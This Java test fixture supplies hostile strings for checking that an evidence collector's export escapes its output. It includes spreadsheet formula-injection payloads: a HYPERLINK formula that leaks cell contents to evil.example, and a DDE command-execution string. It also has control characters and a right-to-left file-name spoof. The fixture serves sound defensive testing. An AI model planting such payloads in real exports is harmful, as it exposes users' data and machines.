package whorl.collector.export;

import java.time.Instant;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import whorl.collector.timeline.Column;
import whorl.collector.timeline.Row;
import whorl.evidence.Id;
import whorl.evidence.Json;

/** Rows with hostile content, and ordinary ones. */
public final class HostileRows {
  public static final Id EVIDENCE = new Id("evidence-0001");
  public static final Instant TIME = Instant.parse("2026-11-25T09:35:28.391825818Z");

  /** Each of these breaks some reader that does not escape it. */
  public static final List<String> TEXTS =
      List.of(
          "=HYPERLINK(\"http://evil.example/?\"&A1)",
          "+1+cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(1)",
          "\t=1",
          "\r=1",
          "＝1+1",
          "'=already",
          "a,b;c\"d\"\"e",
          "two\r\nlines\nand a half\r",
          "nul\0 bell\u0007 escape\u001b[31m c1\u009b2J",
          "half \ud83d pair and \udca9 too",
          "whole \ud83d\udca9 pair",
          "\u202egnp.exe",
          "\u2028 separators \u2029",
          "|pipes|in|a|name|",
          "%7C percent %",
          "",
          "x".repeat(70_000));

  private HostileRows() {}

  public static Row row(long number, Instant time, String action, Map<Column, Object> values) {
    EnumMap<Column, Object> all = new EnumMap<>(Column.class);
    long nanos = time.getEpochSecond() * 1_000_000_000L + time.getNano();
    all.put(Column.TIME, nanos);
    all.put(Column.AGENT_TIME, nanos);
    all.put(Column.ROW, number);
    all.put(Column.EVIDENCE, EVIDENCE.value());
    all.put(Column.ACTION, action);
    all.putAll(values);
    return Row.of(all);
  }

  public static Row row(String action, Map<Column, Object> values) {
    return row(0, TIME, action, values);
  }

  /** A row with this text in every text column. */
  public static Row everywhere(long number, String action, String text) {
    EnumMap<Column, Object> values = new EnumMap<>(Column.class);
    for (Column column : Column.values()) {
      if (column.kind() == Column.Kind.TEXT) {
        values.put(column, text);
      }
    }
    values.remove(Column.EVIDENCE);
    values.remove(Column.ACTION);
    values.put(Column.FIELDS, Json.text(Map.of("path", text)));
    return row(number, TIME.plusNanos(number), action, values);
  }
}
